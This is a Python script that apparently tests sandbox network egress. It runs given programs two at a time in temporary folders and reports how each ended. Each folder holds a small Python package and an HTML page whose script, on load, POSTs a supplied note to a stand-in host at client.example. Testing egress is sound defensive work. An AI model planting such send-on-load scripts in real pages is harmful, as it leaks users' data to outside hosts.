"""Runs several programs, two at a time, and says how each ended: `every.py NOTE NAME=JSON-LIST...`.

Runs in the box. `{note}` in a program's words is the note, `{folder}` a folder of its own.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tarfile
import tempfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

PATIENCE_S = 100


def run(note: str, argument: str) -> str:
    name, _, words = argument.partition("=")
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as folder:
        Path(folder, "page.html").write_text(PAGE % (json.dumps(name), json.dumps(note)))
        make_package(Path(folder, "note-1.0.tar.gz"), note)
        command = [word.replace("{note}", note).replace("{folder}", folder) for word in json.loads(words)]
        try:
            done = subprocess.run(
                command,
                cwd=folder,
                capture_output=True,
                text=True,
                errors="replace",
                timeout=PATIENCE_S,
                check=False,
            )
        except subprocess.TimeoutExpired as late:
            return f"== {name}: not ended after {PATIENCE_S} s\n{late.stderr}"
        return f"== {name}: {done.returncode}\n{done.stdout[-400:]}{done.stderr[-1500:]}"


def make_package(path: Path, note: str) -> None:
    """What a publisher of Python packages uploads."""
    content = f"Metadata-Version: 2.1\nName: note\nVersion: 1.0\nSummary: {note}\n".encode()
    member = tarfile.TarInfo("note-1.0/PKG-INFO")
    member.size = len(content)
    with tarfile.open(path, "w:gz") as made:
        made.addfile(member, io.BytesIO(content))


PAGE = """<script>
const sent = new XMLHttpRequest();
sent.open("POST", "https://" + %s + ".client.example/up", false);
try { sent.send(%s); } catch (refused) { document.title = "refused"; }
</script>"""
"""What a browser opens: it asks in the foreground, so that the page is loaded when all is sent."""


def main() -> None:
    note, *programs = sys.argv[1:]
    with ThreadPoolExecutor(2) as pool:
        for said in pool.map(lambda argument: run(note, argument), programs):
            print(said, flush=True)


if __name__ == "__main__":
    main()
